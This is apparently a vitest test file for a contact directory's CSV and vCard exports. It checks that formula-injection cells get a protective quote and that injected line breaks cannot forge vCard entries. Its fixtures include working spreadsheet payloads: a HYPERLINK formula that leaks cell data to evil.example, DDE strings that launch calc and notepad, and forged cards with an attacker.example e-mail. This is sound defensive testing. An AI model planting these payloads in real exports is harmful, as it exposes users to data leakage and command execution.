import { parse as parseCsv } from 'csv-parse/sync'
import fc from 'fast-check'
import ICAL from 'ical.js'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { protectCell, unprotectCell } from '../../src/lib/csv-cells.js'
import { csvLines } from '../../src/modules/exports/contact-export.js'
import { bearer, buildTestApp, roleId, snapshot } from '../helpers/build-test-app.js'
import { admin, COLUMNS, type Headers, importOk, type Json, type TestApp } from './support.js'

/**
 * Export safety (DESIGN.md, "Export safety"): no CSV cell starts a spreadsheet formula, and no
 * vCard value can end its line, so none can start a property or a card of its own.
 */

/** What a spreadsheet takes for the start of a formula (OWASP): = + - @ tab CR. */
const FORMULA_START = /^[=+\-@\t\r]/
const NUMBER = /^[+-]?(?:\d+(?:\.\d+)?|\.\d+)(?:[eE][+-]?\d+)?$/

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
const SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
const CMD = "+cmd|' /C notepad'!A0"

describe('CSV cells', () => {
  it('a cell that starts a formula gets one leading quote; numbers, dates and ordinary text do not', () => {
    const cases: [string, string][] = [
      [HYPERLINK, `'${HYPERLINK}`],
      [SUM, `'${SUM}`],
      [CMD, `'${CMD}`],
      ['-Smith', "'-Smith"],
      ['\tcmd', "'\tcmd"],
      ['\r=1+1', "'\r=1+1"],
      ['-1+2', "'-1+2"],
      ['+996 312 620000', "'+996 312 620000"],
      // Already quoted: one more quote, so the import's removal of one gives the value back.
      ["'=x", "''=x"],
      ["''-y", "'''-y"],
      // Kept as they are.
      ['+996312620000', '+996312620000'],
      ['-5', '-5'],
      ['+1.5e3', '+1.5e3'],
      ['-.5', '-.5'],
      ['2024-03-01', '2024-03-01'],
      ['2024-03-01T10:00:00.000Z', '2024-03-01T10:00:00.000Z'],
      ['Zhumabekov', 'Zhumabekov'],
      ["'t Hooft", "'t Hooft"],
      ["O'Brien", "O'Brien"],
      ["'", "'"],
      ['', ''],
      ['a=b', 'a=b'],
    ]
    for (const [value, cell] of cases) {
      expect(protectCell(value), JSON.stringify(value)).toBe(cell)
      expect(unprotectCell(cell), JSON.stringify(cell)).toBe(value)
    }
  })

  it('for every string: the written cell never starts a formula (unless a number) and reads back exactly', () => {
    const alphabet = fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", '1', '.', 'e', 'a', ' ', '"', '\n')
    const tricky = fc.array(alphabet, { maxLength: 8 }).map((cs) => cs.join(''))
    fc.assert(
      fc.property(fc.oneof(tricky, fc.string({ unit: 'grapheme' })), (value) => {
        const cell = protectCell(value)
        expect(unprotectCell(cell)).toBe(value)
        if (FORMULA_START.test(cell)) expect(cell).toMatch(NUMBER)
        expect(cell === value || cell === `'${value}`).toBe(true)
      }),
      { numRuns: 2000 },
    )
  })

  it('csvLines, the one CSV writer of every export, protects each cell (tab and CR first too)', () => {
    const text = csvLines([
      {
        externalId: 'x-1',
        honorific: '@me',
        givenName: '\tcmd',
        familyName: '\r=1+1',
        positionTitle: HYPERLINK,
        phone: '+996312620000',
        startDate: '2024-03-01',
        organization: '-5',
      },
    ])
    const [row] = parseCsv(text, { columns: [...COLUMNS], relaxQuotes: false }) as Record<string, string>[]
    expect(row).toMatchObject({
      externalId: 'x-1',
      honorific: "'@me",
      givenName: "'\tcmd",
      familyName: "'\r=1+1",
      positionTitle: `'${HYPERLINK}`,
      phone: '+996312620000',
      startDate: '2024-03-01',
      organization: '-5',
    })
  })
})

// ---------------------------------------------------------------------------------------------
// Over HTTP: every CSV and vCard the service emits.

let t: TestApp
let a: Headers
const ids: Record<string, string> = {}

const get = (url: string, accept: string, headers: Headers = {}) =>
  t.app.inject({ method: 'GET', url, headers: { ...headers, accept } })

const rowsOf = (csv: string): Record<string, string>[] => parseCsv(csv, { columns: true, bom: true })

/** Every cell of a CSV text that a spreadsheet would take for a formula. */
function formulaCells(csv: string): string[] {
  const cells = (parseCsv(csv, { bom: true }) as string[][]).flat()
  return cells.filter((c) => FORMULA_START.test(c) && !NUMBER.test(c))
}

/** Forged card text: a lenient reader that splits on CR, LF or U+2028 would see a second card. */
const forged = (eol: string) =>
  `Eve${eol}END:VCARD${eol}BEGIN:VCARD${eol}VERSION:4.0${eol}FN:Forged${eol}EMAIL;PREF=1:evil@attacker.example`

const PEOPLE: [string, Json][] = [
  [
    'hyperlink',
    {
      externalId: 'kg-hyperlink',
      honorific: CMD,
      givenName: SUM,
      familyName: HYPERLINK,
      positionTitle: '-Head of Division',
      contactDetails: [
        { type: 'phone', value: '+996 312 620000', visibility: 'public' },
        { type: 'email', value: 'eve@mfa.gov.kg', visibility: 'public' },
      ],
    },
  ],
  ['smith', { externalId: 'kg-smith', givenName: 'John', familyName: '-Smith' }],
  ['negative', { externalId: '-5', familyName: 'Numbered' }],
  ['ordinary', { externalId: 'kg-ordinary', givenName: 'Asan', familyName: 'Zhumabekov' }],
  // Line breaks a name may hold (LF, U+2028, U+2029) and ones only free text may hold (notes, addresses).
  [
    'lf',
    {
      externalId: 'kg-lf',
      givenName: forged('\n'),
      familyName: 'Back\\slash; Semi, Comma',
      positionTitle: forged('\u2028'),
      nameOriginal: forged('\u2029'),
      notes: forged('\r'),
      contactDetails: [
        { type: 'address', value: forged('\r\n'), label: 'home', visibility: 'public' },
        { type: 'email', value: 'lf@mfa.gov.kg', visibility: 'public' },
      ],
    },
  ],
]

/** The organization "=cmd|…" of KG, and each of PEOPLE in a role there; answers their ids. */
async function directory(app: TestApp, headers: Headers, people: [string, Json][]) {
  const post = async (url: string, payload: object): Promise<Json> => {
    const res = await app.app.inject({ method: 'POST', url, headers, payload })
    expect(res.statusCode, res.body).toBe(201)
    return res.json() as Json
  }
  const org = await post('/v1/organizations', {
    name: '=cmd|"/C calc"!A0',
    kind: 'government',
    stateCode: 'KG',
  })
  const made: Record<string, string> = {}
  for (const [key, body] of people) {
    const c = await post('/v1/contacts', body)
    made[key] = c.id
    await post('/v1/assignments', {
      contactId: c.id,
      organizationId: org.id,
      roleId: roleId(app.db, 'technical-poc'),
      startDate: '2024-03-01',
    })
  }
  return made
}

beforeAll(async () => {
  t = await buildTestApp()
  a = { ...(await admin()), 'content-type': 'application/json' }
  Object.assign(
    ids,
    await directory(t, a, [
      ...PEOPLE,
      [
        'cr',
        {
          externalId: 'kg-cr',
          familyName: 'Carriage',
          notes: `x${forged('\r\n')}\u000b\u000c\u001c\u001d\u001e\u0085${forged('\u0085')}\u0000\u0007`,
          contactDetails: [{ type: 'address', value: `Street 1\r${forged('\r')}`, visibility: 'public' }],
        },
      ],
    ]),
  )
  // A record written before names refused control characters: a CR in a stored name.
  t.db.$client
    .prepare('update contacts set given_name = ?, display_name = ? where id = ?')
    .run(`\r${forged('\r')}`, `\r${forged('\r')} Carriage`, ids.cr)
})
afterAll(() => t.close())

describe('CSV exports', () => {
  const exports = ['/v1/contacts', '/v1/contacts?current=false', '/v1/directory?state=KG']

  it('no cell of any CSV export starts a formula, for readers with and without directory:read', async () => {
    for (const url of exports) {
      for (const headers of [a, {}]) {
        const res = await get(url, 'text/csv', headers)
        expect(res.statusCode, res.body).toBe(200)
        expect(res.headers['content-type']).toMatch(/^text\/csv/)
        expect(formulaCells(res.body), url).toEqual([])
      }
    }
  })

  it('each dangerous cell is written with one leading quote; phone, number, date and plain text as they are', async () => {
    for (const headers of [a, {}]) {
      const res = await get('/v1/contacts', 'text/csv', headers)
      const rows = rowsOf(res.body)
      const row = (externalId: string) => rows.find((r) => r.externalId === externalId)
      expect(row('kg-hyperlink')).toMatchObject({
        organization: `'=cmd|"/C calc"!A0`,
        honorific: `'${CMD}`,
        givenName: `'${SUM}`,
        familyName: `'${HYPERLINK}`,
        positionTitle: "'-Head of Division",
        phone: '+996312620000',
        startDate: '2024-03-01',
        stateCode: 'KG',
      })
      expect(row('kg-smith')).toMatchObject({ givenName: 'John', familyName: "'-Smith" })
      expect(row('-5')).toMatchObject({ externalId: '-5', familyName: 'Numbered' })
      expect(row('kg-ordinary')).toMatchObject({ givenName: 'Asan', familyName: 'Zhumabekov' })
      // A CR first in a stored name is protected like any formula start.
      expect(rows.find((r) => r.familyName === 'Carriage')?.givenName).toBe(`'\r${forged('\r')}`)
    }
  })

  it('the directory CSV protects its cells the same way', async () => {
    const res = await get('/v1/directory?state=KG', 'text/csv')
    expect(res.statusCode, res.body).toBe(200)
    const row = rowsOf(res.body).find((r) => r.externalId === 'kg-hyperlink')
    expect(row).toMatchObject({ familyName: `'${HYPERLINK}`, organization: `'=cmd|"/C calc"!A0` })
  })
})

// ROUND TRIP — with the import side (src/modules/imports removes exactly one leading `'` from
// a CSV cell that starts a formula after it, with unprotectCell): an export re-imports as unchanged.
describe('ROUND TRIP: export, then import the export', () => {
  let u: TestApp
  beforeAll(async () => {
    u = await buildTestApp()
  })
  afterAll(() => u.close())

  it('ROUND TRIP: an export whose cells were protected re-imports as unchanged', async () => {
    const h = { ...(await admin()), 'content-type': 'application/json' }
    await directory(u, h, PEOPLE)
    const res = await u.app.inject({
      method: 'GET',
      url: '/v1/contacts',
      headers: { ...h, accept: 'text/csv' },
    })
    expect(res.statusCode, res.body).toBe(200)
    expect(res.body).toContain(`'${HYPERLINK.replace(/"/g, '""')}`)
    expect(res.body).toContain("'-Smith")
    const before = snapshot(u.db)
    const body = await importOk(u, res.body, 'text/csv', h)
    expect(body).toEqual({
      dryRun: false,
      created: { organizations: 0, contacts: 0, assignments: 0 },
      updated: { organizations: 0, contacts: 0, assignments: 0 },
      unchanged: { organizations: 1, contacts: 5, assignments: 5 },
    })
    expect(snapshot(u.db), 'the re-import wrote nothing').toBe(before)
  })
})

describe('vCard exports', () => {
  const PROPERTY = /^(?:BEGIN|END|VERSION|UID|FN|N|NICKNAME|ORG|TITLE|EMAIL|TEL|URL|ADR|LANG|NOTE|REV)[;:]/
  /** Anything some reader may take for the end of a line. */
  const LINE_END = /[\r\n\v\f\u2028\u2029]|(?!\t)\p{Cc}/u

  /** The physical lines of a vCard text, checked: CRLF ends only, each a known property or a fold. */
  function physicalLines(body: string): string[] {
    expect(body.endsWith('\r\n')).toBe(true)
    const lines = body.slice(0, -2).split('\r\n')
    for (const line of lines) {
      expect(line, JSON.stringify(line)).not.toMatch(LINE_END)
      expect(Buffer.byteLength(line), line).toBeLessThanOrEqual(75)
      if (!line.startsWith(' ')) expect(line, JSON.stringify(line)).toMatch(PROPERTY)
    }
    return lines
  }

  /** The content lines after unfolding (RFC 6350 section 3.2). */
  const unfolded = (body: string) => body.replace(/\r\n /g, '').split('\r\n').slice(0, -1)

  function cards(body: string): ICAL.Component[] {
    const parsed = ICAL.parse(body) as unknown[]
    const roots = Array.isArray(parsed[0]) ? parsed : [parsed]
    return roots.map((jcard) => new ICAL.Component(jcard as never))
  }

  it('no injected line break survives: one card per contact, and no forged card, property or e-mail', async () => {
    for (const headers of [a, {}]) {
      const res = await get('/v1/contacts?current=false', 'text/vcard', headers)
      expect(res.statusCode, res.body).toBe(200)
      const lines = physicalLines(res.body)
      expect(lines.filter((l) => l === 'BEGIN:VCARD')).toHaveLength(6)
      expect(lines.filter((l) => l === 'END:VCARD')).toHaveLength(6)
      expect(lines.filter((l) => /^FN[;:]/.test(l))).toHaveLength(6)
      const content = unfolded(res.body)
      expect(content.filter((l) => l.startsWith('EMAIL'))).toEqual([
        'EMAIL:eve@mfa.gov.kg',
        'EMAIL:lf@mfa.gov.kg',
      ])
      expect(content.filter((l) => l === 'FN:Forged')).toEqual([])
      expect(cards(res.body)).toHaveLength(6)
    }
  })

  it('each single-contact vCard holds exactly one card', async () => {
    for (const key of ['lf', 'cr', 'hyperlink']) {
      const res = await get(`/v1/contacts/${ids[key]}`, 'text/vcard', a)
      expect(res.statusCode, res.body).toBe(200)
      const lines = physicalLines(res.body)
      expect(lines.filter((l) => l === 'BEGIN:VCARD')).toHaveLength(1)
      expect(lines[0]).toBe('BEGIN:VCARD')
      expect(lines.at(-1)).toBe('END:VCARD')
    }
  })

  it('line breaks are written as \\n, and \\ , ; are escaped in every text value', async () => {
    const res = await get(`/v1/contacts/${ids.lf}`, 'text/vcard', a)
    const content = unfolded(res.body)
    const esc = (eol: string) => forged(eol).replace(/[;,]/g, '\\$&').replaceAll(eol, '\\n')
    const forgedN = forged('\n').replace(/[;,]/g, '\\$&').replaceAll('\n', '\\n')
    expect(content).toContain(`N:Back\\\\slash\\; Semi\\, Comma;${forgedN};;;`)
    expect(content).toContain(`TITLE:${esc('\u2028')}`)
    expect(content).toContain(`NICKNAME:${esc('\u2029')}`)
    expect(content).toContain(`NOTE:${esc('\r')}`)
    // A parameter value takes RFC 6868's ^n for a line break.
    expect(content).toContain(`ADR;LABEL="${forged('\r\n').replaceAll('\r\n', '^n')}":;;;;;;`)
    // An independent reader gets the values back, each line break as one LF.
    const [card] = cards(res.body)
    expect(card?.getFirstProperty('n')?.getValues()[0]).toEqual([
      'Back\\slash; Semi, Comma',
      forged('\n'),
      '',
      '',
      '',
    ])
    expect(card?.getFirstPropertyValue('title')).toBe(forged('\n').replace(/;/g, '\\;'))
  })

  it('every other control character is left out, and CR, VT, FF, FS, GS, RS and NEL become \\n', async () => {
    const res = await get(`/v1/contacts/${ids.cr}`, 'text/vcard', a)
    const note = unfolded(res.body).find((l) => l.startsWith('NOTE:'))
    const esc = (eol: string) => forged(eol).replace(/[;,]/g, '\\$&').replaceAll(eol, '\\n')
    expect(note).toBe(`NOTE:x${esc('\r\n')}\\n\\n\\n\\n\\n\\n${esc('\u0085')}`)
    const fn = unfolded(res.body).find((l) => l.startsWith('FN:'))
    expect(fn).toBe(`FN:\\n${esc('\r')} Carriage`)
  })

  it('long lines fold at 75 octets without splitting a character, a surrogate pair or an escape', async () => {
    const familyName = `${'Ж'.repeat(50)}${'😀'.repeat(30)}${',;\\'.repeat(30)}${'a'.repeat(7)}😀`
    const res = await t.app.inject({
      method: 'POST',
      url: '/v1/contacts',
      headers: a,
      payload: { familyName, positionTitle: familyName },
    })
    expect(res.statusCode, res.body).toBe(201)
    const card = await get(`/v1/contacts/${res.json().id}`, 'text/vcard', a)
    const lines = physicalLines(card.body)
    const title = lines.slice(lines.findIndex((l) => l.startsWith('TITLE:')))
    const folded = title.slice(
      0,
      title.findIndex((l, i) => i > 0 && !l.startsWith(' ')),
    )
    expect(folded.length).toBeGreaterThan(5)
    for (const line of folded) {
      // Each physical line is whole UTF-8 on its own, and none ends inside an escape.
      expect(Buffer.from(line, 'utf8').toString('utf8')).toBe(line)
      expect(line).not.toMatch(/\p{Cs}/u)
      expect((line.match(/\\*$/) as RegExpMatchArray)[0].length % 2).toBe(0)
    }
    expect(folded.slice(0, -1).map((l) => Buffer.byteLength(l))).toContain(75)
    const [parsed] = cards(card.body)
    expect(parsed?.getFirstProperty('n')?.getValues()[0]?.[0]).toBe(familyName)
  })

  it('an anonymous vCard export has no notes and is as safe', async () => {
    const res = await get('/v1/contacts?current=false', 'text/vcard')
    expect(res.body).not.toContain('NOTE')
    physicalLines(res.body)
    const reader = await bearer('directory:read')
    physicalLines((await get(`/v1/contacts/${ids.cr}`, 'text/vcard', reader)).body)
  })
})
